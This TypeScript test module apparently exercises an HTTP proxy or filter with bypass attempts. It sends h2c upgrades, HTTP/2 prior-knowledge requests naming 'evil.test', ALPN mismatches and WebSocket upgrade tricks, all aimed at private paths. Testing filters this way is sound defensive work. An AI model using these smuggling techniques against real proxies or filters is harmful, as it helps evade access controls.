/** Other protocols inside HTTP. */
import type {Attempt, Attacker} from '../attempt.ts';
import {SITES} from '../addresses.ts';
import {h2} from '../h2.ts';
import {http, say, tlsTo} from '../wire.ts';

const way = (id: string, title: string, attempt: (by: Attacker) => Promise<unknown>): Attempt => ({
  id: `upgrades-${id}`,
  title,
  invariant: 3,
  attempt: async (by) => void (await attempt(by)),
  control: 'free',
});

const HOST = 'Host: plain.test';
const request = (token: string): Buffer =>
  h2.request(1, [
    [':method', 'GET'],
    [':scheme', 'http'],
    [':authority', 'evil.test'],
    [':path', `/private/${token}`],
  ]);

export const UPGRADES: readonly Attempt[] = [
  way('h2c', 'an upgrade to HTTP/2 in the clear, then another site in it', (by) =>
    say(
      by.connect(SITES.plain, 80),
      http(
        `GET /public/a HTTP/1.1`,
        HOST,
        'Connection: Upgrade, HTTP2-Settings',
        'Upgrade: h2c',
        'HTTP2-Settings: AAMAAABkAAQAAP__',
      ),
      h2.open(),
      request(by.token),
    ),
  ),
  way('h2c-no-settings', 'the same without HTTP2-Settings in Connection', (by) =>
    say(
      by.connect(SITES.plain, 80),
      http(`GET /public/a HTTP/1.1`, HOST, 'Connection: Upgrade', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'),
      h2.open(),
      request(by.token),
    ),
  ),
  way('h2c-tls', 'an upgrade to h2c inside TLS', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['http/1.1']}),
      http(
        `GET /public/a HTTP/1.1`,
        'Host: allowed.test',
        'Connection: Upgrade, HTTP2-Settings',
        'Upgrade: h2c',
        'HTTP2-Settings: AAMAAABkAAQAAP__',
      ),
      h2.open(),
      request(by.token),
    ),
  ),
  way('prior', 'HTTP/2 in the clear with prior knowledge, another site in it', (by) =>
    say(by.connect(SITES.plain, 80), h2.open(), request(by.token)),
  ),
  way('prior-allowed', 'HTTP/2 in the clear with an allowed :authority, a path that the rule does not hold', (by) =>
    say(
      by.connect(SITES.plain, 80),
      h2.open(),
      h2.request(1, [
        [':method', 'GET'],
        [':scheme', 'http'],
        [':authority', 'plain.test'],
        [':path', `/private/${by.token}`],
      ]),
    ),
  ),
  way('preface-in-tls', 'the HTTP/2 preface where HTTP/1.1 was negotiated', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['http/1.1']}),
      h2.open(),
      h2.request(1, [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':authority', 'allowed.test'],
        [':path', `/private/${by.token}`],
      ]),
    ),
  ),
  way('http1-in-h2', 'HTTP/1.1 where HTTP/2 was negotiated', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['h2']}),
      http(`GET /private/${by.token} HTTP/1.1`, 'Host: allowed.test'),
    ),
  ),
  way('websocket-denied', 'a WebSocket to a path that the rule does not hold', (by) =>
    say(
      by.connect(SITES.plain, 80),
      http(
        `GET /private/${by.token} HTTP/1.1`,
        HOST,
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      ),
    ),
  ),
  way('websocket-early', 'a WebSocket whose server answers 200: what follows is sent as if it were frames', (by) =>
    say(
      by.connect(SITES.plain, 80),
      http(
        `GET /public/a HTTP/1.1`,
        HOST,
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      ),
      http(`GET /private/${by.token} HTTP/1.1`, 'Host: evil.test'),
    ),
  ),
  way('websocket-bad-version', 'a WebSocket of a version that the server refuses (426), then a request', (by) =>
    say(
      by.connect(SITES.plain, 80),
      http(
        `GET /public/a HTTP/1.1`,
        HOST,
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 1337',
        'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      ) + http(`GET /private/${by.token} HTTP/1.1`, HOST),
    ),
  ),
  ...(['tls/1.0', 'HTTP/2.0', 'connect-udp', 'raw', 'websocket, h2c', 'SSH-2.0'] as const).map((protocol) =>
    way(`to-${protocol.replace(/[^a-z0-9]+/gi, '-').toLowerCase()}`, `an upgrade to ${protocol}`, (by) =>
      say(
        by.connect(SITES.plain, 80),
        http(`GET /public/a HTTP/1.1`, HOST, 'Connection: Upgrade', `Upgrade: ${protocol}`),
        `\x00\x01raw ${by.token}`,
      ),
    ),
  ),
];
